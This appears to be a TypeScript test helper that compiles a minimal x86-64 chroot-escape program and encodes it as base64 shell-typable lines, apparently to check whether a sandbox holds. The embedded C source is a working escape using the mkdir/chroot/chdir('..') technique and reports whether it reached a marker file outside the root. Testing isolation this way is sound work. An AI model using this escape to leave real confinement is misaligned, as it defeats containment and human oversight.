import { execFile } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { promisify } from 'node:util';

const COMPILER = '/usr/bin/cc';

/**
 * The classic way out of a chroot, as a program without libraries: make a new root below the working directory, climb
 * from the working directory, which is outside of it now, and call the top the root. Then it looks for a file.
 */
const ESCAPE = `
static long call(long number, long a, long b, long c) {
  long result;
  __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
  return result;
}
static void say(const char *text, long length) { call(1, 1, (long)text, length); }
void _start(void) {
  call(83, (long)"x", 0755, 0);
  if (call(161, (long)"x", 0, 0)) say("no chroot\\n", 10);
  else say("chroot\\n", 7);
  for (int i = 0; i < 32; i++) call(80, (long)"..", 0, 0);
  call(161, (long)".", 0, 0);
  if (call(2, (long)MARKER, 0, 0) >= 0) say("escaped\\n", 8);
  else say("contained\\n", 10);
  call(60, 0, 0, 0);
}`;

/** Why the program cannot be made here, to skip with; undefined when it can. */
export function escapeMissing(): string | undefined {
  if (process.arch === 'x64' && fs.existsSync(COMPILER)) return undefined;
  return 'it is compiled for x86-64 with cc, which is not there';
}

/** The program, looking for a marker file: base64, in lines that can be typed into a shell. */
export async function compileEscape(folder: string, marker: string): Promise<readonly string[]> {
  const [source, program] = [path.join(folder, 'escape.c'), path.join(folder, 'escape')];
  fs.writeFileSync(source, ESCAPE);
  const flags = ['-Os', '-static', '-nostdlib', '-fno-stack-protector', '-Wl,-n', '-Wl,--build-id=none', '-s'];
  await promisify(execFile)(COMPILER, [...flags, `-DMARKER="${marker}"`, '-o', program, source]);
  return (
    fs
      .readFileSync(program)
      .toString('base64')
      .match(/.{1,500}/g) ?? []
  );
}
